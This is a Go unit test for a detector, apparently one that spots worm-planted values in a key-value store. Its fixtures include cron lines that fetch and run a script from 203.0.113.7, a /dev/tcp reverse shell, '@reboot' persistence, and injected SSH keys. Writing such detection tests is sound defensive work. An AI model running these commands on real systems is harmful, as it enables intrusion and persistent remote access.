package keyspace

import "testing"

func TestPlanted(t *testing.T) {
	t.Parallel()
	for value, want := range map[string]bool{
		"\n\n*/2 * * * * root curl -fsSL http://203.0.113.7/x | sh\n\n": true,
		"\t\n\n*/3 * * * * wd1 -q -O- http://203.0.113.7/x | sh\n":      true, // curl and wget renamed by the worm
		"\n\n* * * * * bash -i >& /dev/tcp/203.0.113.7/9 0>&1\n\n":      true,
		"\n\n0,30 4-6 1 */2 0 /tmp/x\n":                                 true,
		"\n@reboot root /tmp/x\n":                                       true,
		"\n\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7 root@kali\n\n":    true,
		"\n\n\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5 x\n":                    true,
		"":                                    false,
		"yesterday's figures":                 false,
		`{"note":"run curl -s x | sh"}`:       false,
		"<p>wget http://x and /bin/sh</p>":    false,
		"# How to\n\n    curl -fsSL x | sh":   false,
		"1 2 3 4 5 6 7 8\n6 7 8 9 10 11 12\n": false,
		"how ssh-rsa keys work":               false,
	} {
		if got := planted(value); got != want {
			t.Errorf("planted(%q) is %v", value, got)
		}
	}
}
